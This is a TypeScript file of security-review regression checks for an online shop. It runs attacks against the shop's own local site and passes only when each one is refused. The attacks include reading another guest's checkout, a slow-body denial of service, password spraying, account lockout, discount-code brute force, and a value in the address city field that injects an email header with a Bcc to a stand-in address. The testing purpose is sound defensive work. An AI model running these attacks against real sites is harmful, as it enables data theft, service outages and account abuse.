import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { outcome, recordOf, type Answer, type Visitor } from './visitor.ts';

export interface Target {
  readonly origin: string;
  readonly port: number;
  readonly newVisitor: () => Visitor;
  /** Variants that are in stock. */
  readonly variants: readonly { readonly id: string; readonly size: string }[];
}

export interface Attack {
  /** Number of the finding in the security review. */
  readonly finding: string;
  readonly step: string;
  /** What came back, and whether the attack got nowhere. */
  readonly run: (target: Target) => Promise<{ readonly seen: string; readonly isRefused: boolean }>;
}

const VICTIM = {
  name: 'Vera Victim',
  line1: '1 Victim St',
  city: 'New York',
  region: 'NY',
  postal: '10001',
  country: 'US',
  phone: '+12125550100',
};
const DEMO_PASSWORD = 'orime-demo-2026';

/** The steps of the review that need a running site. The others are tests: see decision 0031. */
export const ATTACKS: readonly Attack[] = [
  {
    finding: 'H1',
    step: 'a signed-in stranger quotes, then reads a guest’s checkout by its id',
    async run(target) {
      const id = await victimCheckout(target);
      const thief = target.newVisitor();
      const token = await signIn(thief, 'consumer@example.com');
      const quoted = await thief.post('/api/checkout/quote', { checkoutId: id, currency: 'USD', lines: [] }, token);
      const read = await thief.get(`/api/checkout/${id}`, token);
      return { seen: `another checkout, then ${outcome(read)}`, isRefused: quoted.body['checkoutId'] !== id && read.status === 404 };
    },
  },
  {
    finding: 'H1',
    step: 'a hold with a wrong hash tells the cart and the right hash',
    async run(target) {
      const id = await victimCheckout(target);
      const held = await target.newVisitor().post('/api/checkout/hold', { checkoutId: id, quoteHash: 'x'.repeat(43) });
      return { seen: outcome(held), isRefused: held.status === 404 && !JSON.stringify(held.body).includes('quoteHash') };
    },
  },
  {
    finding: 'H1',
    step: 'ids of 40 quotes in a row are neighbours of each other',
    async run(target) {
      const ids = await Promise.all(Array.from({ length: 40 }, () => victimCheckout(target)));
      const heads = new Set(ids.map((id) => id.slice(0, -2)));
      return { seen: `${heads.size} of ${ids.length} differ before their last two letters`, isRefused: heads.size === ids.length };
    },
  },
  {
    finding: 'H2',
    step: '130 senders of one byte of a body, from one address',
    async run({ port, newVisitor }) {
      const sockets = await Promise.all(Array.from({ length: 130 }, () => slowBody(port)));
      await sleep(500);
      const startedAt = performance.now();
      const answer = await newVisitor().get('/api/settings/public');
      const ms = Math.round(performance.now() - startedAt);
      for (const socket of sockets) socket.destroy();
      return { seen: `${outcome(answer)} for others after ${ms} ms`, isRefused: answer.status === 200 && ms < 2000 };
    },
  },
  {
    finding: 'H3',
    step: 'one visitor holds 40 lines of 20 pieces',
    async run({ newVisitor, variants }) {
      const visitor = newVisitor();
      const lines = variants.slice(0, 40).map((variant) => ({ ...variant, quantity: 20 }));
      const held = await hold(visitor, lines);
      return { seen: outcome(held), isRefused: held.status >= 400 };
    },
  },
  {
    finding: 'H3',
    step: 'one visitor holds one piece of ten checkouts',
    async run({ newVisitor, variants }) {
      const visitor = newVisitor();
      const answers: Answer[] = [];
      for (const variant of variants.slice(0, 10)) answers.push(await hold(visitor, [{ ...variant, quantity: 1 }]));
      const held = answers.filter(({ status }) => status === 200).length;
      return {
        seen: `${held} held, the last ${outcome(answers.at(-1) ?? NOTHING)}`,
        isRefused: held <= 5 && answers.at(-1)?.status === 429,
      };
    },
  },
  {
    finding: 'M4',
    step: 'eight wrong passwords lock the owner out, who signs in from elsewhere',
    async run({ newVisitor }) {
      const stranger = newVisitor();
      for (let count = 0; count < 8; count += 1) await stranger.post('/api/users/login', { email: 'consumer@example.com', password: 'x' });
      const answer = await newVisitor().post('/api/users/login', { email: 'consumer@example.com', password: DEMO_PASSWORD });
      return { seen: `the owner: ${outcome(answer)}`, isRefused: answer.status === 200 };
    },
  },
  {
    finding: 'M5',
    step: 'one password at 120 addresses from one sender',
    async run({ newVisitor }) {
      const stranger = newVisitor();
      const count = async (email: string) => stranger.post('/api/users/login', { email, password: 'orime2026' });
      const answers = [];
      for (let place = 0; place < 120; place += 1) answers.push((await count(`nobody-${place}@example.com`)).status);
      const tried = answers.findIndex((status) => status === 429);
      return { seen: tried === -1 ? 'all 120 tried' : `429 after ${tried}`, isRefused: tried !== -1 && tried <= 50 };
    },
  },
  {
    finding: 'L1',
    step: 'accounts with guessable passwords',
    async run({ newVisitor }) {
      const terms = recordOf((await newVisitor().get('/api/settings/public')).body)['termsVersion'];
      const email = `guessable-${Date.now()}@example.com`;
      const register = (password: string) =>
        newVisitor().post('/api/users/register', { email, password, name: 'Grace', type: 'consumer', termsVersion: terms });
      const answers = [];
      for (const password of ['password12', '1234567890', 'aaaaaaaaaa', ' '.repeat(10), 'qwertyuiop', email])
        answers.push(await register(password));
      // Nothing but the password was wrong.
      const good = await register('moss-ladder-forty-two');
      const isRefused = answers.every(({ status }) => status === 400) && good.status === 200;
      return { seen: `${[...new Set(answers.map(outcome))].join(', ')}; another: ${outcome(good)}`, isRefused };
    },
  },
  {
    finding: 'L6',
    step: '1,000 codes tried, five a quote',
    async run({ newVisitor, variants }) {
      const visitor = newVisitor();
      const lines = variants.slice(0, 1).map((variant) => ({ ...variant, quantity: 1 }));
      for (let tried = 0; tried < 1000; tried += 5) {
        const codes = [0, 1, 2, 3, 4].map((place) => `GUESS${tried + place}`);
        const answer = await visitor.post('/api/checkout/quote', { currency: 'USD', lines, codes });
        if (answer.status === 429) return { seen: `429 after ${tried} codes`, isRefused: tried <= 200 };
      }
      return { seen: 'all 1,000 tried', isRefused: false };
    },
  },
  {
    finding: 'L9',
    step: 'a line break in the city of an address',
    async run({ newVisitor, variants }) {
      const lines = variants.slice(0, 1).map((variant) => ({ ...variant, quantity: 1 }));
      const address = { ...VICTIM, city: '\r\nBcc: evil@x.example' };
      const answer = await newVisitor().post('/api/checkout/quote', { currency: 'USD', lines, email: 'a@example.com', address });
      return { seen: outcome(answer), isRefused: answer.status === 400 };
    },
  },
  {
    finding: 'L11',
    step: 'figures of the gateway for a neighbour in the private network',
    async run({ newVisitor }) {
      const answer = await newVisitor().get('/metrics');
      return { seen: outcome(answer), isRefused: answer.status >= 400 };
    },
  },
];

const NOTHING: Answer = { status: 0, code: '', body: {} };

/** The id of a checkout that a guest has begun, with name, address and phone. */
async function victimCheckout({ newVisitor, variants }: Target): Promise<string> {
  const lines = variants.slice(0, 1).map((variant) => ({ ...variant, quantity: 1 }));
  const quote = await newVisitor().post('/api/checkout/quote', { currency: 'USD', lines, email: 'victim@example.com', address: VICTIM });
  if (quote.status !== 200) throw new Error(`The victim could not begin: ${outcome(quote)}`);
  return String(quote.body['checkoutId']);
}

async function hold(visitor: Visitor, lines: readonly object[]): Promise<Answer> {
  const quote = await visitor.post('/api/checkout/quote', { currency: 'USD', lines, email: 'hoarder@example.com', address: VICTIM });
  if (quote.status !== 200) return quote;
  const { checkoutId, checkoutKey, quoteHash } = quote.body;
  return visitor.post('/api/checkout/hold', { checkoutId, checkoutKey, quoteHash });
}

async function signIn(visitor: Visitor, email: string): Promise<string> {
  const answer = await visitor.post('/api/users/login', { email, password: DEMO_PASSWORD });
  if (answer.status !== 200) throw new Error(`${email} could not sign in: ${outcome(answer)}`);
  return String(answer.body['token']);
}

/** A request whose body never comes. */
function slowBody(port: number): Promise<Socket> {
  return new Promise((done) => {
    const socket = connect(port, '127.0.0.1', () => {
      socket.write('POST /api/users/login HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 500\r\n\r\n{');
      done(socket);
    });
    // The gateway ends what is too slow or too much.
    socket.on('error', () => done(socket));
  });
}
